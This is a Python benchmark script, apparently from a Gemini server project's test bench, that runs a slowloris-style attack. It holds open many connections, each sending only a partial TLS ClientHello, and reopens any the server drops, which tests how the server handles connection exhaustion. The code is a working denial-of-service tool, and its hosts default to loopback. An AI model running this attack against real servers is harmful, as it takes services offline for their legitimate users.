#!/usr/bin/env python3
# Copyright (c) 2026 the bantin authors. ISC licence, see LICENSE.
#
# bench/slow.py: the slow-client attack of bench/slow.sh. It opens N
# connections from one address to a Gemini port and sends each the
# first bytes of a TLS ClientHello, never the rest: the server takes
# every one at once (TCP_DEFER_ACCEPT waits for data, and there is
# some) and waits for the handshake to go on. Once a second it opens
# again every connection the server has closed, as slowloris does, so
# that about N are always pending. It says "held N" on stderr when the
# first N are open, and on SIGTERM prints one line of key=value:
# connections opened in all, closed by the server, open at the end.
#
#   slow.py --port P --src 127.0.0.2 [-n 1000] [--host 127.0.0.1]

import argparse
import errno
import resource
import selectors
import signal
import socket
import sys
import time

# a TLS record header for a handshake message, and the start of a
# ClientHello: the server reads it and waits for the rest
PARTIAL = bytes.fromhex("16030100f8" "010000f4" "0303")


class Attack:
    def __init__(self, a):
        self.a = a
        self.sel = selectors.DefaultSelector()
        self.open = set()
        self.opened = 0
        self.closed = 0
        self.failed = 0
        self.stop = False

    def connect(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((self.a.src, 0))
            s.connect((self.a.host, self.a.port))
            s.sendall(PARTIAL)
        except OSError as e:
            s.close()
            self.failed += 1
            if e.errno in (errno.EMFILE, errno.ENFILE):
                raise
            return
        s.setblocking(False)
        self.sel.register(s, selectors.EVENT_READ)
        self.open.add(s)
        self.opened += 1

    def refill(self):
        while len(self.open) < self.a.n and not self.stop:
            self.connect()

    def reap(self, timeout):
        for key, _ in self.sel.select(timeout):
            s = key.fileobj
            try:
                if s.recv(4096):
                    continue        # an alert or data: still open
            except BlockingIOError:
                continue
            except OSError:
                pass
            self.sel.unregister(s)
            self.open.discard(s)
            s.close()
            self.closed += 1

    def run(self):
        self.refill()
        print("held %d" % len(self.open), file=sys.stderr, flush=True)
        next_refill = time.monotonic() + 1
        while not self.stop:
            self.reap(max(0.0, next_refill - time.monotonic()))
            if time.monotonic() >= next_refill:
                self.refill()
                next_refill = time.monotonic() + 1
        print("opened=%d closed=%d failed=%d open=%d" % (
            self.opened, self.closed, self.failed, len(self.open)))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--src", default="127.0.0.2")
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("-n", type=int, default=1000)
    a = ap.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < a.n + 64:
        resource.setrlimit(resource.RLIMIT_NOFILE,
                           (min(hard, a.n + 64), hard))
    att = Attack(a)

    def on_term(sig, frame):
        att.stop = True
    signal.signal(signal.SIGTERM, on_term)
    signal.signal(signal.SIGINT, on_term)
    att.run()


if __name__ == "__main__":
    main()
